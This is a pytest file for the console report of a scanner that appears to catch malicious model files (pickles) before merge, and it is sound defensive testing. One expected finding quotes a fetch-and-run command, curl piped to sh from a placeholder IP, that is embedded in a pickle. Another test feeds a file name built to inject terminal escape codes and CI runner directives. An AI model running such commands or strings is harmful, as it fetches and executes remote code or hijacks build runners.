from __future__ import annotations

import io
import subprocess
import sys

import pytest
from hypothesis import given, settings

from scanner.domain import Report, Verdict
from scanner.report.console import MAX_ROWS, lines, progress, show
from tests.report import samples
from tests.report.test_render import hostile_reports


def printed(report: Report, colour: bool | None = None) -> str:
    stream = io.StringIO()
    show(report, stream, colour)
    return stream.getvalue()


def test_piped_text_reads_like_a_report() -> None:
    assert printed(samples.failing()).splitlines()[:8] == [
        "Do not merge: 1 malicious file, 1 denied licence, 2 files not read",
        "",
        "CRITICAL  models/ranker.bin",
        '    Loading this file runs os.system("curl -s https://203.0.113.7/x | sh"), offset 214',
        "    Loading this file imports numexpr.evaluate, offset 71",
        "    do: Remove the file. Ask the author for the weights as safetensors, and load those.",
        "    do: Ask the author why it is there; prefer the weights as safetensors.",
        "",
    ]
    assert printed(samples.failing()).splitlines()[-1] == (
        "Read 2 of 4, 1 reference, 31 older findings, SBOM of 118 components (incomplete)"
    )
    assert printed(samples.nothing()) == "No model files or references in this change\n"


def test_a_terminal_gets_a_table_in_colour() -> None:
    text = printed(samples.everything(), colour=True)
    assert "\x1b[" in text
    for said in ("models/ranker.bin", "critical", "not read", "model", "what"):
        assert said in text


def test_each_section_is_there() -> None:
    text = "\n".join(lines(samples.everything()))
    for said in (
        "below the gate, in tests, examples and docs: examples/demo.pkl",
        "worth knowing: .github/modelward.yml",
        "not looked at: org/base",
        "removed: models/gone.bin",
        "warning: 2 model files are not committed",
        "reason: 2 findings at or above high",
    ):
        assert said in text


def test_a_long_report_is_cut_and_says_so() -> None:
    text = printed(samples.many(MAX_ROWS + 5))
    assert text.count("CRITICAL") == MAX_ROWS
    assert "5 rows left out here; report.json holds everything." in text


def test_a_name_can_neither_steer_the_terminal_nor_the_runner() -> None:
    name = "\x1b]0;x\x07\u202e\n::error::x ##[group]y"
    found = samples.finding("pickle-dangerous-import", name, symbol="::set-env name=a::b")
    report = samples.report(Verdict.FAIL, findings=[found])
    shown = "[U+001B]]0;x[U+0007][U+202E][U+000A]: :error: :x ## [group]y"
    assert f"CRITICAL  {shown}" in printed(report)
    assert "\x1b]" not in printed(report, colour=True)


@settings(max_examples=25)
@given(hostile_reports())
def test_no_report_can(report: Report) -> None:
    for line in printed(report).split("\n"):
        assert line.isprintable()
        assert "::" not in line
        assert "##[" not in line


@settings(max_examples=10)
@given(hostile_reports())
def test_no_report_can_on_a_terminal(report: Report) -> None:
    text = printed(report, colour=True)
    assert "::" not in text
    assert "##[" not in text


def test_progress_is_told_on_one_line_that_goes_away() -> None:
    stream = io.StringIO()
    with progress(stream) as tell:
        tell("collecting", 0, 0)
        tell("looking", 3, 40)
    text = stream.getvalue()
    assert "looking" in text
    assert "3/40" in text
    assert text.endswith("\x1b[2K")


def test_an_ascii_stream_is_served() -> None:
    raw = io.BytesIO()
    stream = io.TextIOWrapper(raw, encoding="ascii")
    show(samples.report(Verdict.WARN, warnings=["größe"]), stream)
    stream.flush()
    assert b"warning: gr\\xf6\\xdfe" in raw.getvalue()


@pytest.mark.parametrize("module", ["console", "render", "sarif", "view", "escape", "plain"])
def test_importing_it_loads_nothing_heavy(module: str) -> None:
    program = (
        f"import sys, scanner.report.{module};"
        "print(sorted({'rich', 'jinja2', 'yaml', 'numpy', 'cyclonedx', 'modelscan'} & sys.modules.keys()))"
    )
    done = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, check=True)
    assert done.stdout == "[]\n"


def test_what_a_modified_model_imports_now_is_told() -> None:
    model = samples.artifact("a.pkl", change="modified", imports_added=[f"m.f{n:02}" for n in range(25)])
    found = samples.finding("pickle-dangerous-import", "a.pkl", artifact=model.id, symbol="m.f00")
    text = printed(samples.report(Verdict.FAIL, artifacts=[model], findings=[found]))
    assert "    imports now also m.f00, m.f01," in text
    assert "m.f19 and 5 more\n" in text
    quiet = printed(samples.report(Verdict.PASS, artifacts=[model]))
    assert "other imports and calls than before: a.pkl: imports now also m.f00" in quiet
